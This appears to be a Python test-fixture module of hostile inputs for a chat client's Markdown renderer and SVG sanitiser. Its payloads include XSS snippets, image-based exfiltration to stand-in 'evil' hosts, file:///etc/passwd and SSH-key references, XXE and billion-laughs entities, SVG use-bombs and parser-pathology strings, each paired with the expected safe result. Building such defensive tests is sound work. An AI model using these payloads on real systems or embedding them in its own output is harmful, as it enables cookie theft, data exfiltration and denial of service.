"""Hostile model output: markup that must not execute or load, and texts built to find a
quadratic or catastrophic path in the parser. The tests check each is safe and visible; the
benchmark `render` times them.

`SVG_CLEANED` and `SVG_REFUSED` are SVG documents a model could write or a user attach, for
the SVG sanitiser (chatdesk/core/render/svg.py; tests/core/render/test_svg.py): those it
cleans, each with a piece its result must still hold (the shape drawn beside the attack), and
those it refuses, each with a piece of the reason the user is told."""

from __future__ import annotations

# (id, text, a piece of the text the user must still see; None when it is too big to check)
CORPUS: list[tuple[str, str, str | None]] = [
    ("script", "<script>alert(document.cookie)</script>", "<script>alert(document.cookie)"),
    ("img onerror", "<img src=x onerror=\"fetch('//evil')\">", "onerror="),
    ("a javascript", '<a href="javascript:alert(1)">click</a>', "javascript:alert(1)"),
    ("md javascript", "[click](javascript:alert(1))", "click"),
    ("md JaVaScRiPt", "[click](JaVaScRiPt:alert(1))", "click"),
    ("md file", "[passwd](file:///etc/passwd)", "passwd"),
    ("image dev zero", "![x](/dev/zero)", "[image: x]"),
    ("image proc environ", "![env](/proc/self/environ)", "[image: env]"),
    ("image exfiltration", "![x](http://evil/p.png?q=secret)", "[image: x — from evil]"),
    ("iframe", '<iframe src="https://evil.example"></iframe>', "<iframe"),
    ("style", "<style>body { background: url(http://evil/x) }</style>", "<style>"),
    ("link stylesheet", '<link rel=stylesheet href="http://evil/x.css">', "<link rel=stylesheet"),
    ("object", '<object data="file:///etc/passwd"></object>', "<object"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=http://evil">', "<meta"),
    ("data url link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "x"),
    ("data url image", "![pic](data:image/png;base64,iVBORw0KGgo=)", "pic"),
    ("custom scheme", '<a href="cherrystudio://mcp/install?x=1">install</a>', "cherrystudio://"),
    ("md custom scheme", "[install](cherrystudio://mcp/install?servers=evil)", "install"),
    ("reference to file", "[docs][1]\n\n[1]: file:///etc/passwd", "docs"),
    ("autolink file", "<file:///etc/passwd>", "file:///etc/passwd"),
    ("autolink javascript", "<javascript:alert(1)>", "javascript:alert(1)"),
    ("entities to tags", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;", "<script>"),
    ("numeric entity link", "[x](&#106;avascript:alert(1))", "x"),
    ("bidi in link", "[\u202etxt.exe](https://evil.example/a)", "txt.exe"),
    ("scheme-relative", "[x](//evil.example/path)", "x"),
    ("svg", '<svg onload="alert(1)"><circle/></svg>', "<svg"),
    ("form", '<form action="http://evil"><input name=p></form>', "<form"),
    ("html comment", "<!-- <script>alert(1)</script> -->", "<!--"),
    ("math with html", "$<script>alert(1)</script>$", None),
    ("code with html", "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    ("table with html", "| a |\n|---|\n| <img src=x onerror=y> |", "<img src=x onerror=y>"),
    ("emphasis bomb", "*a **b ***c " * 3_000, "a"),
    ("underscore bomb", "_" * 20_000, None),
    ("brackets", "[" * 10_000, "[[["),
    ("nested brackets", "[" * 5_000 + "a" + "]" * 5_000 + "(http://x)", "a"),
    ("image brackets", "![" * 10_000, "!["),
    ("link openers", "[a](" * 10_000, "[a]("),
    ("backticks", "`" * 3_000 + "a" + "``" * 3_000, "a"),
    ("deep quotes", ">" * 5_000 + " deep", "deep"),
    ("deep quote lines", "\n".join(">" * depth + " x" for depth in range(1, 5_000, 50)), "x"),
    ("quotes of digits", "> " + "\n>\n> ".join(["> 1, 2, 3 … 4"] * 5_000), "1, 2, 3"),
    ("deep lists", "\n".join("  " * depth + "- x" for depth in range(5_000)), "x"),
    ("list markers", "- " * 5_000 + "x", "x"),
    ("3 MB line", "a" * 3_000_000, None),
    ("100 KB code", "```python\n" + "x = [1, 2, 3]\n" * 7_500 + "```", "x = [1, 2, 3]"),
    ("unterminated fence", "```python\ndef f():\n    pass\n\nmore text", "more text"),
    ("unterminated math", "$$\n\\frac{a}{b}\n\nno end", "no end"),
    ("dollar openers", "$a \\$" * 20_000, None),
    ("bracket math openers", "\\( a " * 20_000, None),
    ("display math lines", "$$ x\n# h\n" * 10_000, "h"),
    ("many tables", "| a | b |\n|---|---|\n| 1 | 2 |\n\n" * 2_000, "1"),
    ("wide table", "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n|" + "x|" * 2_000, "x"),
    ("many links", "[l](http://example.com/x) " * 5_000, "l"),
    ("nul bytes", "a\0b\0<script>", "<script>"),
]


SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
# As the sanitiser writes it: its attributes in order.
KEPT = '<rect fill="blue" height="10" id="kept" width="10"/>'


def svg(body: str, root: str = "") -> str:
    """An SVG document holding `body` and the shape every cleaned result keeps."""
    return f'<svg {SVG_NS} width="100" height="100"{root}>{body}{KEPT}</svg>'


def _use_bomb(levels: int, fan_out: int) -> str:
    groups = ['<g id="l0"><path d="M0 0h1"/></g>']
    for level in range(1, levels):
        uses = "".join(f'<use xlink:href="#l{level - 1}"/>' for _ in range(fan_out))
        groups.append(f'<g id="l{level}">{uses}</g>')
    return svg(f'<defs>{"".join(groups)}</defs><use xlink:href="#l{levels - 1}"/>')


def _use_chain(length: int) -> str:
    links = "".join(f'<g id="c{n}"><use href="#c{n - 1}"/></g>' for n in range(1, length))
    return svg(f'<defs><g id="c0"><path d="M0 0h1"/></g>{links}</defs><use href="#c{length - 1}"/>')


_LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
_XHTML = 'xmlns:html="http://www.w3.org/1999/xhtml"'

# (id, document, a piece of the result that must remain)
SVG_CLEANED: list[tuple[str, str | bytes, str]] = [
    ("script", svg("<script>alert(document.cookie)</script>"), KEPT),
    ("script cdata", svg("<script><![CDATA[fetch('//evil')]]></script>"), KEPT),
    ("SCRIPT", svg("<SCRIPT>alert(1)</SCRIPT><Script>alert(1)</Script>"), KEPT),
    (
        "svg:script",
        svg('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
        KEPT,
    ),
    ("html:script", svg(f"<html:script {_XHTML}>alert(1)</html:script>"), KEPT),
    ("script href", svg('<script xlink:href="http://evil.example/x.js"/>'), KEPT),
    ("onload", svg("", root=' onload="alert(1)"'), KEPT),
    ("on attributes", svg('<rect onclick="alert(1)" ONMOUSEOVER="alert(2)" width="5"/>'), KEPT),
    (
        "a javascript",
        svg('<a href="javascript:alert(1)"><circle r="4"/></a>'),
        '<g><circle r="4"/></g>',
    ),
    (
        "a xlink",
        svg('<a xlink:href="JaVaScRiPt:alert(1)" target="_top"><text>go</text></a>'),
        ">go<",
    ),
    (
        "link in text",
        svg('<text>see <a href="http://evil.example">here</a></text>'),
        "<tspan>here</tspan>",
    ),
    ("use http", svg('<use xlink:href="http://evil.example/sprites.svg#x"/>'), KEPT),
    ("use file", svg('<use href="file:///etc/passwd#x"/>'), KEPT),
    ("use scheme-relative", svg('<use href="//evil.example/a.svg#x"/>'), KEPT),
    ("image local server", svg('<image href="http://127.0.0.1:8080/admin?x=1" width="9"/>'), KEPT),
    ("image data", svg('<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/>'), KEPT),
    ("image file", svg('<image xlink:href="file:///home/me/.ssh/id_rsa"/>'), KEPT),
    (
        "foreignObject",
        svg('<foreignObject><iframe src="http://evil.example"/></foreignObject>'),
        KEPT,
    ),
    (
        "foreignObject html",
        svg(f'<foreignObject><html:iframe {_XHTML} src="file:///etc"/></foreignObject>'),
        KEPT,
    ),
    ("iframe", svg('<iframe src="http://evil.example"/>'), KEPT),
    (
        "style import",
        svg("<style>@import url(http://evil.example/x.css);.k{fill:red}</style>"),
        ".k{fill:red}",
    ),
    (
        "style import string",
        svg("<style>@import 'http://evil.example/x.css'; .k{fill:red}</style>"),
        ".k{fill:red}",
    ),
    (
        "style font-face",
        svg("<style>@font-face{font-family:x;src:url(http://evil.example/f)}</style>"),
        KEPT,
    ),
    (
        "style rule url",
        svg("<style>.k{background:url(http://evil.example/x);fill:red}</style>"),
        ".k{fill:red}",
    ),
    ("style escape", svg(r"<style>rect{fill:u\72l(http://evil.example/x)}</style>"), KEPT),
    ("style comment", svg("<style>rect{fill:ur/**/l(http://evil.example/x)}</style>"), KEPT),
    ("style expression", svg("<style>rect{width:expression(alert(1))}</style>"), KEPT),
    ("style javascript", svg("<style>rect{behavior:url(javascript:alert(1))}</style>"), KEPT),
    ("style breakout", svg("<style><![CDATA[</style><script>alert(1)</script>]]></style>"), KEPT),
    ("style not css", svg('<style type="text/javascript">alert(1)</style>'), KEPT),
    (
        "style attribute url",
        svg('<rect style="background:url(http://evil.example);fill:red"/>'),
        'style="fill:red"',
    ),
    (
        "style attribute remote fill",
        svg('<rect style="fill:url(http://evil.example/#g)" width="3"/>'),
        '<rect width="3"/>',
    ),
    (
        "style attribute image-set",
        svg("<rect style=\"fill:image-set('http://evil.example/x')\"/>"),
        KEPT,
    ),
    (
        "fill remote",
        svg('<rect fill="url(http://evil.example/p.svg#g)" width="3"/>'),
        '<rect width="3"/>',
    ),
    (
        "fill file",
        svg('<rect fill="url(\'file:///etc/passwd#g\')" width="3"/>'),
        '<rect width="3"/>',
    ),
    (
        "mask remote",
        svg('<rect mask="url(https://evil.example/m.svg#m)" width="3"/>'),
        '<rect width="3"/>',
    ),
    (
        "cursor",
        svg('<rect cursor="url(http://evil.example/c.cur), auto" width="3"/>'),
        '<rect width="3"/>',
    ),
    (
        "animate href",
        svg('<a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
        ">x<",
    ),
    (
        "animate xlink",
        svg(
            '<use href="#kept"><animate attributeName="xlink:href" '
            'values="javascript:alert(1)"/></use>'
        ),
        KEPT,
    ),
    (
        "set href",
        svg('<a href="#kept"><set attributeName="href" to="javascript:alert(1)"/></a>'),
        KEPT,
    ),
    ("set onload", svg('<set attributeName="onload" to="alert(1)"/>'), KEPT),
    (
        "animateMotion",
        svg('<animateMotion dur="1s"><mpath xlink:href="http://evil.example/#p"/></animateMotion>'),
        KEPT,
    ),
    ("feImage", svg('<filter id="f"><feImage href="http://evil.example/x.png"/></filter>'), KEPT),
    ("tref", svg('<text><tref xlink:href="http://evil.example/t.svg#t"/></text>'), KEPT),
    ("handler", svg('<handler type="application/ecmascript">alert(1)</handler>'), KEPT),
    (
        "events namespace",
        svg('<rect xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" width="3"/>'),
        '<rect width="3"/>',
    ),
    ("xml:base", svg('<g xml:base="http://evil.example/"><use href="#kept"/></g>'), KEPT),
    (
        "xlink other",
        svg('<rect xlink:title="x" xlink:role="http://evil.example" width="3"/>'),
        '<rect width="3"/>',
    ),
    (
        "stylesheet instruction",
        '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>' + svg(""),
        KEPT,
    ),
    ("comment", svg("<!-- <script>alert(1)</script> -->"), KEPT),
    ("id with scheme", svg('<rect id="javascript:alert(1)" width="3"/>'), '<rect width="3"/>'),
    (
        "pattern remote",
        svg('<pattern id="p" xlink:href="http://evil.example/#q"/>'),
        '<pattern id="p"/>',
    ),
    ("use of itself", svg('<use id="u" href="#u"/>'), KEPT),
    (
        "use of its group",
        svg('<g id="a"><circle r="1"/><use href="#a"/></g>'),
        '<g id="a"><circle r="1"/></g>',
    ),
    (
        "gradient loop",
        svg('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>'),
        KEPT,
    ),
    (
        "utf-16",
        ('<?xml version="1.0" encoding="UTF-16"?>' + svg("<script>alert(1)</script>")).encode(
            "utf-16"
        ),
        KEPT,
    ),
]

# (id, document, a piece of the reason the user reads)
SVG_REFUSED: list[tuple[str, str | bytes, str]] = [
    (
        "billion laughs",
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol0 "lol">{_LAUGHS}]><svg>&lol9;</svg>',
        "entities",
    ),
    (
        "xxe file",
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
        "entities",
    ),
    (
        "xxe http",
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]><svg>&x;</svg>',
        "entities",
    ),
    (
        "parameter entity",
        '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg/>',
        "entities",
    ),
    (
        "external dtd entity",
        '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd"><svg><text>&x;</text></svg>',
        "entities",
    ),
    ("use bomb", _use_bomb(levels=10, fan_out=10), "too many times"),
    ("use chain", _use_chain(40), "too many times"),
    ("oversized", svg("<!--" + "x" * (2 * 1024 * 1024) + "-->"), "larger than 2.0 MB"),
    ("deep nesting", svg("<g>" * 5_000 + "</g>" * 5_000), "levels of nesting"),
    ("many elements", svg("<g/>" * 60_000), "too many elements"),
    (
        "many attributes",
        svg("<rect " + " ".join(f'a{n}="1"' for n in range(200)) + "/>"),
        "attributes",
    ),
    ("not xml", "<svg><rect></svg>", "not well-formed"),
    ("plain text", "hello, this is no picture", "not well-formed"),
    ("undefined entity", "<svg>&nbsp;</svg>", "not well-formed"),
    ("html", "<!DOCTYPE html><html><body><svg/></body></html>", "not an SVG"),
    ("html without doctype", f"<html><body>{svg('')}</body></html>", "not an SVG"),
    ("xhtml svg", '<svg xmlns="http://www.w3.org/1999/xhtml"><rect/></svg>', "not an SVG"),
    ("utf-16 read as latin-1", svg("").encode("utf-16").decode("latin-1"), "not well-formed"),
    ("multi-byte encoding", b'<?xml version="1.0" encoding="Shift_JIS"?><svg/>', "not well-formed"),
    ("unknown encoding", b'<?xml version="1.0" encoding="x-nonsense"?><svg/>', "not well-formed"),
    (
        "bytes not as declared",
        b'<?xml version="1.0" encoding="UTF-8"?><svg>\xff</svg>',
        "not well-formed",
    ),
    ("lone surrogate", svg("<text>\ud800</text>"), "not well-formed"),
    ("empty", "", "not well-formed"),
]
